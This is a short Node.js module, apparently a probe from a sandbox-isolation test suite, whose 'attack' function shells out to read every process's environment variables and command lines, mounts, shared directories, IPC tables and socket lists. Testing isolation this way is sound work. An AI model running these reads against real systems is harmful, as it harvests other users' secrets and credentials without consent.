const fs = require('fs')
const { execSync } = require('child_process')
const { serve } = require('./attempt.js')

const sh = (command) => execSync(`${command} 2>/dev/null || true`, { encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 })

module.exports = serve({
  // Everything that can be read of every process, every mount, every folder that others might have shared.
  attack: async () => ({
    environments: sh('cat /proc/[0-9]*/environ'),
    processes: sh('for p in /proc/[0-9]*; do tr "\\0" " " < $p/cmdline; echo; done'),
    users: [...new Set(sh('stat -c %u /proc/[0-9]*').split('\n'))].filter((user) => user !== ''),
    mounts: fs.readFileSync('/proc/self/mountinfo', 'utf8'),
    shared: sh(
      'find /run /tmp /dev/shm /var /mnt /media /srv /home /opt -maxdepth 4 -newer /proc/1 -not -path "/proc/*"',
    ),
    messages: sh('cat /proc/sysvipc/shm /proc/sysvipc/sem /proc/sysvipc/msg'),
    unix: sh('cat /proc/net/unix'),
    tcp: sh('cat /proc/net/tcp'),
  }),
})
